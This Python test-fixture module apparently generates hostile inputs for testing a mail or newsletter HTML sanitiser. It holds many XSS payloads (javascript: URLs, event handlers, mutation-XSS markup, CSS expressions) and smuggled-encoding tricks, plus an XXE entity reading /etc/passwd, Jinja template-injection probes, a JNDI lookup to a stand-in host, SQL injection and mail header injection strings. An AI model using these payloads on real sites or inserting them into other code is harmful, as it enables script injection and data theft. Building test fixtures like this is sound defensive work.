"""What somebody might put on a page, into a feed or into a field to make a mail do what it should not.

``CANARY`` stands for an address that nobody may ask, ``RUN()`` for a script that nobody may run; ``armed`` puts both in.
"""

from base64 import b64encode
from dataclasses import dataclass
from itertools import product

CANARY = "http://canary.invalid"
RUN = "window.ran=(window.ran||0)+1;alert(1)"


@dataclass(frozen=True, slots=True)
class Case:
    """A name for the report and the text or markup itself."""

    name: str
    text: str


def armed(text: str, canary: str) -> str:
    """``text`` with the script and the canary's real address in it."""
    return text.replace("RUN()", RUN).replace("CANARY", canary)


# What leads elsewhere than to the web, in every writing that a browser forgives.
ADDRESSES = (
    "javascript:RUN()", "JaVaScRiPt:RUN()", " \njavascript:RUN()", "java\tscript:RUN()", "java\r\nscript:RUN()",
    "\x01javascript:RUN()", "&#106;avascript:RUN()", "&#x6A;&#x61vascript&colon;RUN()", "java&Tab;script&colon;RUN()",
    "javascript://CANARY/%0aRUN()", "javascript&#58;//x.example/%0ARUN()", "feed:javascript:RUN()",
    "view-source:javascript:RUN()", "vbscript:MsgBox(1)", "VB&#115;cript:MsgBox(1)", "data:text/html,<script>RUN()</script>",
    f"data:text/html;base64,{b64encode(b'<script>RUN()</script>').decode()}", "data:image/svg+xml,<svg onload=RUN()>",
    "data:text/css,@import'CANARY/css'", "file:///etc/passwd", "blob:null/1", "mailto:x@x.example?bcc=y@y.example",
    "//CANARY@review.example/x", "http:/\\CANARY/x", "https://review.example\\@canary.invalid/", "http://[::1", "http://",
    "https://user:word@review.example/", "https://review.example:99999/", 'https://review.example/"onmouseover=RUN()//',
    "https://review.example/'><script>RUN()</script>", "https://review.example/ a b", "https://xn--/", "https://a..b/",
    "https://review.example/\u202egnp.exe", "https://реклама.example/путь", f"https://{'a' * 64}.example/",
    "https://review.example/__NL_UNSUBSCRIBE__", "https://review.example/{{x}}", "#", "?a=1", "../../x", "__NL_UNSUBSCRIBE__",
)  # fmt: skip
_URL_CARRIERS = (
    ("a", '<p><a href="{}">Read on</a> about it.</p>'),
    ("img", '<p>A <img src="{}" alt="boat"> boat.</p>'),
    ("form", '<form action="{0}"><button formaction="{0}">Go</button></form>'),
    ("iframe", '<iframe src="{0}" srcdoc="<script>RUN()</script>">inside</iframe>'),
    ("object", '<object data="{0}"><param name="movie" value="{0}"><embed src="{0}"></object>'),
    ("svg", '<svg><a xlink:href="{0}"><text>t</text></a><use href="{0}"/><image href="{0}"/></svg>'),
    ("math", '<math href="{0}"><mtext>m</mtext><maction actiontype="statusline" xlink:href="{0}">c</maction></math>'),
    ("refresh", '<meta http-equiv="refresh" content="0;url={0}">'),
    ("base", '<base href="{0}"><a href="x">relative</a>'),
    ("link", '<link rel="stylesheet" href="{0}"><link rel="canonical" href="{0}"><link rel="import" href="{0}">'),
    ("media", '<video poster="{0}"><source src="{0}"><track src="{0}"></video><audio src="{0}" autoplay></audio>'),
    ("background", '<table background="{0}"><tr><td background="{0}">cell</td></tr></table><img srcset="{0} 2x" alt="s">'),
)  # fmt: skip
_SOME_ADDRESSES = (0, 3, 7, 15, 17, 29)

_HANDLERS = (
    "onerror", "ONLOAD", "onfocus autofocus tabindex=1 onfocus", "ontoggle", "x/onload", "on\x00error",
)  # fmt: skip
_HANDLER_CARRIERS = (
    "<img src=x:y {}=RUN() alt=boat>", "<svg {}=RUN()><animate {}=RUN() attributeName=x dur=1s>", "<body {}=RUN()>",
    "<details open {}=RUN()><summary>s</summary>d</details>", "<input {}=RUN() autofocus>",
    "<video {}='RUN()'><source {}=\"RUN()\"></video>", "<p {}=`RUN()`>words</p>",
)  # fmt: skip

_STYLES = (
    "<style>@import 'CANARY/a.css';</style>", "<style>@\\69mport url(CANARY/b.css);</style>",
    "<style>p{background:url(CANARY/c.png)}</style>", "<style>p{x:expression(RUN())}</style>", "<style>*{display:none}</style>",
    "<style></p><script>RUN()</script></style>", "<style>}</style><style>{{{{</style>", "<style>.text{color:red!important}",
    '<style data-premailer="ignore">@import "CANARY/d.css"</style>', '<p style="p">one</p>', '<p style="}">two</p>',
    '<p style="background:url(CANARY/e.png)">three</p>', '<p style="width:expression(RUN())">four</p>',
    '<p style="behavior:url(CANARY/f.htc);-moz-binding:url(CANARY/g.xml#x)">five</p>', '<p style="@import url(CANARY/h.css)">six</p>',
    "<p style=\"background:u\\72l('CANARY/i.png')\">seven</p>", '<p style="position:fixed;top:0;left:0;z-index:9">eight</p>',
    '<p style="font-family:\'</style><script>RUN()</script>">nine</p>', '<p style="color:red;;;:::{}{}\\">ten</p>',
    '<p class="preheader sheet" id="section-1">eleven</p>', "<xss style='x:url(&#106;avascript:RUN())'>twelve</xss>",
    '<div style="x:y\n\\0;z">thirteen</div>', "<link rel=stylesheet href='CANARY/j.css'>", "<?xml-stylesheet href='CANARY/k.css'?>",
)  # fmt: skip

_SCRIPTS = (
    "<script>RUN()</script>", "<SCRIPT SRC=CANARY/a.js></SCRIPT>", "<scr<script>ipt>RUN()</scr</script>ipt>",
    "<script/x>RUN()</script\n>", "<script>RUN()", "</script><script>RUN()</script>", "<script\x0c>RUN()</script>",
    "<<script>RUN()//<</script>", '<script type=application/ld+json>{"@type":"NewsArticle","author":"</script><script>RUN()"}</script>',
    "&lt;script&gt;RUN()&lt;/script&gt;", "&amp;lt;script&amp;gt;RUN()&amp;lt;/script&amp;gt;", "%3Cscript%3ERUN()%3C/script%3E",
    "\\u003cscript\\u003eRUN()", "＜script＞RUN()＜/script＞", "+ADw-script+AD4-RUN()+ADw-/script+AD4-",
    '"><script>RUN()</script>', "'><img src=x onerror=RUN()>", "`><svg/onload=RUN()>", '" onmouseover="RUN()" x="',
    '<a href="x"onclick="RUN()">y</a>', "<isindex action=javascript:RUN() type=image>", "<marquee onstart=RUN()>m</marquee>",
    "<keygen autofocus onfocus=RUN()>", "<portal src=CANARY/portal>", "<frameset onload=RUN()><frame src=CANARY/frame></frameset>",
    "<applet code=CANARY/x.class></applet>", "<bgsound src=CANARY/s.wav>", "<layer src=CANARY/l></layer>", "<dialog open onclose=RUN()>d",
)  # fmt: skip

# What a parser reads one way and, written out and read again, another.
_MUTATING = (
    '<noscript><p title="</noscript><img src=x onerror=RUN()>">', "<noscript><style></noscript><img src=x onerror=RUN()>",
    "<template><script>RUN()</script></template>", "<template><noscript></template><svg onload=RUN()>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN()>",
    "<svg><style><img src=x onerror=RUN()></style></svg>", '<svg></p><style><a id="</style><img src=1 onerror=RUN()>">',
    "<math><annotation-xml encoding=text/html><script>RUN()</script></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<script>RUN()</script>'></iframe></foreignObject></svg>",
    "<svg><title><![CDATA[</title><script>RUN()</script>]]></title></svg>", "<svg><desc><!--</desc><script>RUN()</script>-->",
    '<title><a href="</title><img src=x onerror=RUN()>">', '<textarea><a title="</textarea><img src=x onerror=RUN()>">',
    '<xmp><p title="</xmp><svg/onload=RUN()>">', "<plaintext><script>RUN()</script>", "<listing>&lt;img src=x onerror=RUN()&gt;</listing>",
    "<select><style></select><script>RUN()</script></style>", "<option><style></option></select><b><img src=x onerror=RUN()></style></option>",
    "<table><td><svg><p><style><!--</style><img title='--><img src=x onerror=RUN()>'>", "<a><svg><a><img src=x onerror=RUN()>",
    "<b><i><p></b></i><svg/onload=RUN()>", '<noembed><img title="</noembed><img src onerror=RUN()>"></noembed>',
    '<noframes><p title="</noframes><svg onload=RUN()>">', '<iframe><p title="</iframe><img src onerror=RUN()>">',
)  # fmt: skip

_BROKEN = (
    "<p><b><i>one</p></b></i>", "</p></div></body></html><p>after the end", "<p", '<p title="', "<a href='x", "<!-- never closed",
    "<!--> at once <!---> and again <!-- -- -->", "<!-->--><script>RUN()</script>", "<!--[if mso]><script>RUN()</script><![endif]-->",
    "<!--[if gte IE 4]><img src=CANARY/ie onerror=RUN()><![endif]-->", "<![if !mso]><p>short</p><![endif]>", "<![if", "<!--[if mso]>",
    "<![CDATA[<script>RUN()</script>]]>", "]]><script>RUN()</script><![CDATA[", "<?php echo 1 ?>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<!ENTITY % p SYSTEM 'CANARY/dtd'>%p;", "&e;&nbsp&amp&#0;&#x110000;&#xD800;",
    "&#1;&#8;&#11;&#12;&#27;&#127;&#128;&#159;&#65534;", "<table><p>lost</p><tr>x<td>y<table>", "<ul><ol><li><li></ul></ol>",
    "<p/><br/></br><//><p/p>", "< script>RUN()</ script>", "<p><p><p><h1><h2><h1>", "<html><head><body><html><body>", "<x:y z:w='v'>n</x:y>",
    "<base><link><meta><base>", "\"'`<>&=/\\", "<p id=a id=b class=a class=b>twice</p>",
)  # fmt: skip

_ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f"
_TEXTS = (
    Case("override", "The \u202egnp.exe\u202c file"), Case("override left open", "The \u202egnp.exe file and more of it"),
    Case("isolates left open", "\u2067\u2066\u2068 words that run " + "\u2067" * 50), Case("pops that close nothing", "a\u202c\u2069\u202cb"),
    Case("deep embeddings", "\u202a" * 200 + "in" + "\u202c" * 200), Case("Hebrew within English", "He said שלום (a greeting) 12%"),
    Case("direction marks", "a\u200e\u200f\u061cb"), Case("zero-width flood", _ZERO_WIDTH * 60 + "end"),
    Case("zero-width in a scheme", "java\u200bscript:RUN()"), Case("combining flood", "Z" + "\u0301\u0327\u0489" * 300 + "algo"),
    Case("combining on every letter", "".join(c + "\u0336\u0335" for c in "a story struck through " * 20)),
    Case("family emoji", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 at the quay"),
    Case("emoji without end", "\U0001f468\u200d" * 500), Case("flags and tags", "\U0001f3f4\U000e0067\U000e0062\U000e007f and \U000e0041\U000e0042"),
    Case("flag letters", "\U0001f1e9" * 99), Case("variation selectors", "a" + "\ufe0f\ufe0e" * 300 + "\U000e0100" * 100),
    Case("private use", "\ue000\uf8ff\U000f0000\U0010fffd"), Case("non-characters", "a\ufdd0\ufffe\uffff\U0001ffff\U0010ffffb"),
    Case("NUL", "be\x00fore"), Case("NUL in a tag", "<scr\x00ipt>RUN()</scr\x00ipt>"), Case("controls", "".join(map(chr, range(1, 32))) + "x"),
    Case("escape sequences", "\x1b[2J\x1b]0;title\x07words\x9b31m"), Case("C1 controls", "".join(map(chr, range(0x7F, 0xA0))) + "x"),
    Case("backspaces", "good\x08\x08\x08\x08evil"), Case("line separators", "a\u2028b\u2029c\x85d\x0be\x0cf\rg\r\nh"),
    Case("header injection", "Fares\r\nBcc: all@x.example\r\n\r\n<script>RUN()</script>"), Case("lone high surrogate", "a\ud83db"),
    Case("lone low surrogate", "a\ude00b"), Case("surrogates the wrong way", "\ude00\ud83d"), Case("halfwidth and fullwidth", "ｊａｖａｓｃｒｉｐｔ：RUN()"),
    Case("ligatures that grow", "ﷺ" * 300), Case("dotless and sharp", "İıſßẞŉǰ" * 40), Case("jinja", "{{ 7*7 }}{% for x in y %}{# c #}"),
    Case("jinja that looks around", "{{ ''.__class__.__mro__[1].__subclasses__() }}"), Case("jinja that ends", "{% endblock %}{% include '/etc/passwd' %}"),
    Case("merge marks", "*|UNSUB|* [[name]] <%= x %> ${jndi:ldap://x.example/a} %(name)s {0.__class__} $name #{7*7}"),
    Case("a long word", "a" * 2_000), Case("a long word with marks", "-" * 1_000 + "/" * 1_000), Case("a long address", "https://x.example/" + "a/" * 1_000),
    Case("white space alone", " \t\u00a0\u2003\u3000\n"), Case("no-break spaces", "a\u00a0" * 400), Case("one letter", "a"), Case("dots", "…" * 500),
    Case("quotation marks that do not match", "“‘«„\"'" * 300), Case("sentences of one letter", "A. " * 500), Case("numbers", "9" * 1_000 + " percent of 1e999"),
    Case("a mail in the text", "From: x\nSubject: y\n\n.\n\n-- \n--nl-0000\nContent-Type: text/html"), Case("soft breaks", "=\r\n=3D=0D=0A=?utf-8?q?x?="),
    Case("Markdown", "[x](javascript:RUN()) ![y](CANARY/m.png) <CANARY/n>\n# h\n---\n```"), Case("SQL", "'; DROP TABLE articles; --"),
    Case("JSON's end", '"}]}</script><script>RUN()</script>'), Case("a comment's end", "--><script>RUN()</script><!--"),
    Case("a sheet's end", "</style><script>RUN()</script>"), Case("a title's end", "</title><script>RUN()</script>"),
    Case("an attribute's end", "\"'><img src=CANARY/alt onerror=RUN()>"), Case("a table's end", "</td></tr></table></div></body></html>"),
)  # fmt: skip


#: Texts with the mark that our templates have where a personal link goes.
MARKED = (
    Case("a personal link's mark", "Click __NL_UNSUBSCRIBE__ and __NL_PREFERENCES__"), Case("an unknown mark", "__NL_SECRET__"),
)  # fmt: skip


def _numbered(kind: str, texts: tuple[str, ...]) -> list[Case]:
    return [Case(f"{kind} {number}", text) for number, text in enumerate(texts, start=1)]


def cases() -> list[Case]:
    """All that is small, by combination and by hand."""
    urls = product(_URL_CARRIERS, _SOME_ADDRESSES)
    handlers = product(enumerate(_HANDLER_CARRIERS), enumerate(_HANDLERS))
    return [
        *(Case(f"{name} to address {place}", carrier.format(ADDRESSES[place])) for (name, carrier), place in urls),
        *(Case(f"handler {h} on {c}", carrier.replace("{}", handler)) for (c, carrier), (h, handler) in handlers),
        *_numbered("style", _STYLES),
        *_numbered("script", _SCRIPTS),
        *_numbered("mutating", _MUTATING),
        *_numbered("broken", _BROKEN),
        *_TEXTS,
    ]


def groups(size: int = 6) -> list[tuple[Case, ...]]:
    """The same, so many at a time: an issue holds several articles."""
    every = cases()
    return [tuple(every[place : place + size]) for place in range(0, len(every), size)]


def large_cases() -> list[Case]:
    """The few that are large or deep; each has a limit to run into."""
    return [
        Case("ten megabytes", "The ferry sails again. " * 450_000),
        Case("nine hundred thousand letters", "The ferry sails again. " * 39_000),
        Case("fifty thousand nested elements", "<div>" * 50_000 + "deep" + "</div>" * 50_000),
        Case("fifty thousand inline elements, never closed", "<b>" * 50_000 + "deep"),
        Case("two hundred levels", "<div>" * 200 + "<p>deep</p>" + "</div>" * 200),
        Case("a hundred thousand empty paragraphs", "<p>" * 100_000),
        Case("an attribute of a megabyte", f'<p title="{"x" * 1_000_000}">short</p>'),
        Case("forty thousand attributes", f"<p {' '.join(f'a{n}=1' for n in range(40_000))}>many</p>"),
        Case("a hundred thousand entities", "&lt;&amp;&#39;&bogus;" * 25_000),
        Case("a hundred thousand marks on one letter", "a" + "\u0301" * 100_000),
        Case("comments without end", "<!--" * 100_000),
        Case("brackets without end", "<" * 300_000),
    ]


def encoded_pages() -> list[tuple[str, bytes, str | None]]:
    """Whole pages as bytes, with the ``Content-Type`` that they come with."""
    page = (
        "<!doctype html><html><head><title>t</title></head><body><h1>Ferry fares rise</h1>"
        "<p>The ferry company will raise its fares by 12 percent in April, the council said.</p>"
        "<p>Nyhavn å é – “done”. <script>RUN()</script></p></body></html>"
    )
    utf7 = page.replace("<script>", "+ADw-script+AD4-").replace("</script>", "+ADw-/script+AD4-")
    declared = page.replace("<title>", '<meta charset="{}"><title>')
    return [
        ("UTF-7 by header", utf7.encode(), "text/html; charset=utf-7"),
        ("UTF-7 by the page", utf7.replace("<title>", "<meta charset=utf-7><title>").encode(), None),
        ("UTF-16 with a mark", page.encode("utf-16"), "text/html; charset=utf-8"),
        ("UTF-16 without a mark", page.encode("utf-16-be"), "text/html"),
        ("UTF-32 with a mark", page.encode("utf-32"), "text/html"),
        ("UTF-8 with a mark that says it is Latin", b"\xef\xbb\xbf" + page.encode(), "text/html; charset=iso-8859-1"),
        ("Latin that says it is UTF-8", page.encode("cp1252"), "text/html; charset=utf-8"),
        ("a charset that is none", declared.replace("{}", "x-nonsense").encode(), "text/html"),
        ("a charset that runs code", declared.replace("{}", "unicode_escape").encode(), "text/html"),
        ("two charsets", declared.replace("{}", "shift_jis").encode(), "text/html; charset=gb18030"),
        ("EBCDIC", page.encode("cp500", "replace"), "text/html; charset=cp037"),
        ("ISO-2022 escapes", b"\x1b$B" + page.encode() + b"\x1b(B", "text/html; charset=iso-2022-jp"),
        ("overlong UTF-8", page.encode().replace(b"<script>", b"\xc0\xbcscript\xc0\xbe"), "text/html; charset=utf-8"),
        ("UTF-8 cut in a letter", page.encode()[:-1] + b"\xe2\x80", "text/html"),
        ("CESU-8", page.encode().replace(b"done", b"\xed\xa0\xbd\xed\xb8\x80"), "text/html"),
        ("XHTML", b"<?xml version='1.0'?>" + page.encode(), "application/xhtml+xml"),
    ]
